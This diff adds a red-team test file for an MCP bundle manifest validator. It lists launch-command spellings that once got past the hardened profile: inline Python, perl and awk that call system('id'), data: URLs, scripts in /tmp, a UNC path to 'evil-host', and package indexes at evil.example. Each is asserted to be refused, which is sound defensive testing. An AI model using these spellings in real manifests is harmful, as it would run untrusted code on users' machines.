@@ -1,0 +1,104 @@
+// Red-team review of issues 9 and 10 (hardened profile, archive, verify): spellings of the refused
+// classes that still validated, each with the class it belongs to. Every input here validated
+// clean (or with a warning only) before its fix.
+
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { validateManifest, type Finding } from '../lib/index.ts';
+import { ROOT } from './helpers/cli.ts';
+
+type Manifest = Record<string, any>;
+
+const EXAMPLE: Manifest = JSON.parse(await readFile(join(ROOT, 'examples/hello-bundle/manifest.json'), 'utf8'));
+const NODE_ENTRY = '${__dirname}/server/index.js';
+const PY_ENTRY = '${__dirname}/server/main.py';
+const ARGS = '/server/mcp_config/args';
+const COMMAND = '/server/mcp_config/command';
+
+/** The example with another command line; uv needs manifest 0.4, python and uv a Python entry point. */
+function withCommand(type: string, command: string, args: string[]): Manifest {
+  const copy = structuredClone(EXAMPLE);
+  copy['server']['type'] = type;
+  if (type !== 'node') copy['server']['entry_point'] = 'server/main.py';
+  if (type === 'uv') copy['manifest_version'] = '0.4';
+  copy['server']['mcp_config'] = { command, args, env: {} };
+  copy['_meta']['dev.mcpseal']['scopes']['env'] = { read: [], secrets: [] };
+  // Paths outside the bundle are declared, so only the launch checks can refuse these.
+  copy['_meta']['dev.mcpseal']['scopes']['filesystem']['read'].push('/tmp');
+  return copy;
+}
+
+function errors(manifest: Manifest): string[] {
+  return validateManifest(manifest).findings.filter((finding: Finding) => finding.severity === 'error').map((finding) => `${finding.code} ${finding.pointer}`);
+}
+
+describe('red team: hardened-profile spellings that validated', () => {
+  // [class, type, command, args, expected error "CODE /pointer"]
+  const BYPASSES: Array<[string, string, string, string[], string]> = [
+    // A value-taking Node option missing from the argv model swallowed the script, so what Node
+    // runs next (inline code, a relative script) was never read.
+    ['node option table', 'node', 'node', ['--report-signal', NODE_ENTRY, '-e', 'process.exit(7)'], `MANIFEST_INLINE_CODE ${ARGS}/2`],
+    ['node option table', 'node', 'node', ['--secure-heap', NODE_ENTRY, 'evil.js'], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/2`],
+    ['node option table', 'node', 'node', ['--watch-kill-signal', NODE_ENTRY, '--import=data:text/javascript,x'], `MANIFEST_INLINE_CODE ${ARGS}/2`],
+    ['node option table', 'node', 'node', ['--cpu-prof', '--cpu-prof-name', NODE_ENTRY, '/tmp/evil.js'], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/3`],
+    // Options that load a module: the test runner's reporter and global setup, a package map.
+    ['node module loaders', 'node', 'node', ['--test', '--test-reporter=./evil.mjs', NODE_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
+    ['node module loaders', 'node', 'node', ['--test', '--test-reporter', 'data:text/javascript,x', NODE_ENTRY], `MANIFEST_INLINE_CODE ${ARGS}/1`],
+    ['node module loaders', 'node', 'node', ['--test', '--test-global-setup=/tmp/setup.mjs', NODE_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
+    ['node module loaders', 'node', 'node', ['--experimental-package-map=/tmp/map.json', NODE_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
+    // A URL as the script: `--entry-url` runs a data: URL as the entry point.
+    ['script URL', 'node', 'node', ['--entry-url', 'data:text/javascript,process.exit(7)', NODE_ENTRY], `MANIFEST_INLINE_CODE ${ARGS}/1`],
+    ['debugger', 'node', 'node', ['--inspect-brk-node', NODE_ENTRY], `MANIFEST_DEBUGGER ${ARGS}/0`],
+    // Python modules that run the code named after them, or code from stdin or their arguments.
+    ['python runner modules', 'python', 'python3', ['-m', 'timeit', 'import os; os.system("id")', PY_ENTRY], `MANIFEST_INLINE_CODE ${ARGS}/0`],
+    ['python runner modules', 'python', 'python3', ['-m', 'asyncio', PY_ENTRY], `MANIFEST_INLINE_CODE ${ARGS}/0`],
+    ['python runner modules', 'python', 'python3', ['-m', 'cProfile', '/tmp/evil.py', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
+    ['python runner modules', 'python', 'python3', ['-mrunpy', 'evil', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
+    ['python runner modules', 'python', 'python3', ['-m', 'unittest', 'discover', '-s', '/tmp', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
+    ['python runner modules', 'python', 'python3', ['-m', 'trace', '--count', 'evil.py', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
+    // PYTHONPYCACHEPREFIX is refused in env; its -X form ran bytecode from another tree too.
+    ['python bytecode elsewhere', 'python', 'python3', ['-X', 'pycache_prefix=/tmp/pyc', PY_ENTRY], `MANIFEST_ENV_INJECTION ${ARGS}/0`],
+    ['python bytecode elsewhere', 'python', 'python3', ['-Xpycache_prefix=/tmp/pyc', PY_ENTRY], `MANIFEST_ENV_INJECTION ${ARGS}/0`],
+    // uv: an interpreter or project that is not the bundle's, the option forms of the refused UV_* env.
+    ['uv outside code', 'uv', 'uv', ['run', '--python', '/tmp/evil/python', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
+    ['uv outside code', 'uv', 'uv', ['run', '-p/tmp/evil/python', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
+    ['uv outside code', 'uv', 'uv', ['run', '--project', '/tmp/project', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/1`],
+    ['uv outside code', 'uv', 'uv', ['--directory', '/tmp/project', 'run', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/0`],
+    ['uv outside code', 'uv', 'uv', ['--directory', '${__dirname}', 'run', '../evil.py', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/3`],
+    ['uv outside code', 'uv', 'uv', ['--directory', '${__dirname}', 'run', 'python', 'server/../../evil.py', PY_ENTRY], `MANIFEST_CODE_OUTSIDE_BUNDLE ${ARGS}/4`],
+    ['uv package sources', 'uv', 'uv', ['run', '--index-url', 'https://evil.example/simple', PY_ENTRY], `MANIFEST_ENV_INJECTION ${ARGS}/1`],
+    ['uv package sources', 'uv', 'uv', ['run', '--default-index=https://evil.example/simple', PY_ENTRY], `MANIFEST_ENV_INJECTION ${ARGS}/1`],
+    ['uv package sources', 'uv', 'uv', ['run', '-f', 'https://evil.example/wheels/', PY_ENTRY], `MANIFEST_ENV_INJECTION ${ARGS}/1`],
+    ['uv package sources', 'uv', 'uv', ['--config-file', '/tmp/uv.toml', 'run', PY_ENTRY], `MANIFEST_ENV_INJECTION ${ARGS}/0`],
+    ['uv stdin script', 'uv', 'uv', ['run', '-', PY_ENTRY], `MANIFEST_INLINE_CODE ${ARGS}/1`],
+    // Interpreters other than the runtime, nested where the command type check does not reach.
+    ['other interpreters', 'uv', 'uv', ['run', 'perl', '-e', 'system("id")', PY_ENTRY], `MANIFEST_SHELL_COMMAND ${ARGS}/1`],
+    ['other interpreters', 'uv', 'uv', ['run', 'ruby', '-e', 'x', PY_ENTRY], `MANIFEST_SHELL_COMMAND ${ARGS}/1`],
+    ['other interpreters', 'uv', 'uv', ['run', 'awk', 'BEGIN{system("id")}', PY_ENTRY], `MANIFEST_SHELL_COMMAND ${ARGS}/1`],
+    // A runtime named by a path the working directory, the user's files or an install-time value decides.
+    ['runtime path', 'node', './node', [NODE_ENTRY], `MANIFEST_UNSAFE_PATH ${COMMAND}`],
+    ['runtime path', 'node', 'bin/node', [NODE_ENTRY], `MANIFEST_UNSAFE_PATH ${COMMAND}`],
+    ['runtime path', 'node', '~/node', [NODE_ENTRY], `MANIFEST_UNSAFE_PATH ${COMMAND}`],
+    ['runtime path', 'node', '${DOCUMENTS}/node', [NODE_ENTRY], `MANIFEST_UNSAFE_PATH ${COMMAND}`],
+    ['runtime path', 'node', '${user_config.notes_directory}/node', [NODE_ENTRY], `MANIFEST_UNSAFE_PATH ${COMMAND}`],
+    ['runtime path', 'python', '\\\\evil-host\\share\\python3.exe', [PY_ENTRY], `MANIFEST_UNSAFE_PATH ${COMMAND}`],
+  ];
+  for (const [kind, type, command, args, expected] of BYPASSES) {
+    it(`red team: ${kind}: ${command} ${args.slice(0, -1).join(' ')} is refused (${expected.split(' ')[0]})`, () => {
+      const found = errors(withCommand(type, command, args));
+      assert.ok(found.includes(expected), found.join('\n'));
+    });
+  }
+
+  it('red team: the clean forms next to these stay clean', () => {
+    const clean: Array<[string, string, string[]]> = [
+      ['node', 'node', ['--test-reporter=spec', '--report-signal', 'SIGUSR2', NODE_ENTRY, 'stdio']],
+      ['node', '/usr/local/bin/node', ['--max-old-space-size=512', NODE_ENTRY]],
+      ['python', 'python3', ['-X', 'utf8', '-m', 'server', PY_ENTRY]],
+      ['uv', 'uv', ['--directory', '${__dirname}', 'run', '--python', '3.12', 'server/main.py']],
+      ['uv', 'uv', ['run', '--project', '${__dirname}', '--python', 'cpython@3.12', PY_ENTRY]],
+    ];
+    for (const [type, command, args] of clean) assert.deepEqual(errors(withCommand(type, command, args)), [], `${command} ${args.join(' ')}`);
+  });
+});
